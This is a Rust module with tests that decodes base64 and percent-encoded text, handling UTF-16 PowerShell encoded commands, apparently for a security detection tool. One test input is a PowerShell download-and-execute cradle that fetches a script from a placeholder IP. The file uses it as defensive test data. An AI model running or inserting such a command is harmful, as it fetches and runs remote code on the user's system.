//! Text out of its wrappings: base64 as attackers and mail use it, and percent-encoding.

use std::borrow::Cow;

use base64::{
    Engine,
    alphabet::STANDARD,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};
use percent_encoding::percent_decode_str;

/// Takes what others refuse: leftover bits, padding or none.
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// The text in a base64 text; `None` if there is none.
///
/// Both alphabets are taken, line breaks and other blanks are passed over, padding may be missing. The bytes may be
/// UTF-8 or UTF-16 of either byte order, as a mark at their start says. Without a mark they are taken for UTF-16LE,
/// which is what PowerShell's `-EncodedCommand` takes, if they read as text that way and not as UTF-8.
pub(super) fn base64_decode_text(text: &str) -> Option<Cow<'_, str>> {
    let digits: Vec<u8> = text
        .bytes()
        .filter(|byte| !byte.is_ascii_whitespace())
        .map(|byte| match byte {
            b'-' => b'+',
            b'_' => b'/',
            other => other,
        })
        .collect();
    let bytes = LENIENT.decode(digits).ok()?;
    decode_bytes(bytes).map(Cow::Owned)
}

fn decode_bytes(bytes: Vec<u8>) -> Option<String> {
    match bytes.as_slice() {
        [0xFF, 0xFE, rest @ ..] => return utf16(rest, u16::from_le_bytes),
        [0xFE, 0xFF, rest @ ..] => return utf16(rest, u16::from_be_bytes),
        [0xEF, 0xBB, 0xBF, rest @ ..] => return String::from_utf8(rest.to_vec()).ok(),
        _ => {}
    }
    let as_utf16 = || utf16(&bytes, u16::from_le_bytes).filter(|text| is_plain(text) && is_of_one_script(&bytes));
    match str::from_utf8(&bytes) {
        Ok(text) if is_plain(text) => String::from_utf8(bytes).ok(),
        Ok(text) => as_utf16().or_else(|| Some(text.to_owned())),
        Err(_) => as_utf16(),
    }
}

fn utf16(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> Option<String> {
    let (pairs, rest) = bytes.as_chunks::<2>();
    if !rest.is_empty() {
        return None;
    }
    char::decode_utf16(pairs.iter().map(|&pair| unit(pair))).collect::<Result<_, _>>().ok()
}

/// Free of control characters other than those that lay text out.
fn is_plain(text: &str) -> bool {
    !text.chars().any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
}

/// Whether most 16-bit units lie in one block of 256, as those of an alphabet do. Bytes that only happen to be valid
/// UTF-16, a key or packed code, are spread over many.
fn is_of_one_script(bytes: &[u8]) -> bool {
    let (pairs, _) = bytes.as_chunks::<2>();
    let mut blocks = [0_usize; 256];
    pairs.iter().for_each(|&[_, block]| blocks[usize::from(block)] += 1);
    blocks.iter().any(|&units| units * 2 > pairs.len())
}

/// A text with its `%XX` replaced by the bytes that they stand for; `None` if those are no UTF-8. A plus sign stays.
pub(super) fn url_decode(text: &str) -> Option<Cow<'_, str>> {
    percent_decode_str(text).decode_utf8().ok()
}

#[cfg(test)]
mod tests {
    use base64::engine::general_purpose;
    use proptest::prelude::*;

    use super::*;

    fn encode_utf16(text: &str) -> String {
        general_purpose::STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    #[test]
    fn what_powershell_takes() {
        let command = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\r\n";
        assert_eq!(base64_decode_text(&encode_utf16(command)).as_deref(), Some(command));
        assert_eq!(base64_decode_text("SQBFAFgA").as_deref(), Some("IEX"));
        for text in ["Write-Host 'Привет, мир'", "Привет, мир", "echo 你好 > C:\\temp\\x.txt", "π≈3 🔥 x y z", "dir"]
        {
            assert_eq!(base64_decode_text(&encode_utf16(text)).as_deref(), Some(text));
        }
    }

    #[test]
    fn utf8_is_utf8() {
        for text in ["", "Kusto", "naïve", "你好", "line\r\n\tline", "a\0b"] {
            let encoded = general_purpose::STANDARD.encode(text);
            assert_eq!(base64_decode_text(&encoded).as_deref(), Some(text), "{encoded}");
        }
    }

    #[test]
    fn byte_order_marks_decide() {
        assert_eq!(base64_decode_text("//5hAGIA").as_deref(), Some("ab"));
        assert_eq!(base64_decode_text("/v8AYQBi").as_deref(), Some("ab"));
        assert_eq!(base64_decode_text("77u/YWI=").as_deref(), Some("ab"));
        assert_eq!(base64_decode_text("//5hAGI="), None, "half a unit");
    }

    #[test]
    fn sloppy_base64_is_taken() {
        for encoded in ["S3VzdG8=", "S3VzdG8", " S3Vz\r\n dG8= ", "S3VzdG9="] {
            assert_eq!(base64_decode_text(encoded).as_deref(), Some("Kusto"), "{encoded}");
        }
        assert_eq!(base64_decode_text("Pz8_Pj4-").as_deref(), Some("???>>>"), "the alphabet for URLs");
    }

    #[test]
    fn what_is_no_base64_or_no_text() {
        for text in ["a", "ab=c", "S3V*", "ünï", "abcdefgh", "test", "TVqQAAMAAAAEAAAA//8AALgAAAA="] {
            assert_eq!(base64_decode_text(text), None, "{text}");
        }
    }

    #[test]
    fn percent_signs() {
        assert_eq!(url_decode("a%20b%2Fc+d%C3%A9").as_deref(), Some("a b/c+dé"));
        assert_eq!(url_decode("100%").as_deref(), Some("100%"));
        assert_eq!(url_decode("%FF"), None);
    }

    proptest! {
        #[test]
        fn ascii_survives_both_ways(text in "[ -~]{1,60}") {
            for encoded in [encode_utf16(&text), general_purpose::URL_SAFE_NO_PAD.encode(&text)] {
                let decoded = base64_decode_text(&encoded);
                prop_assert_eq!(decoded.as_deref(), Some(text.as_str()));
            }
        }

        #[test]
        fn no_text_is_a_panic(text in "\\PC{0,40}", bytes: Vec<u8>) {
            let _ = base64_decode_text(&text);
            let _ = base64_decode_text(&general_purpose::STANDARD.encode(&bytes));
        }
    }
}
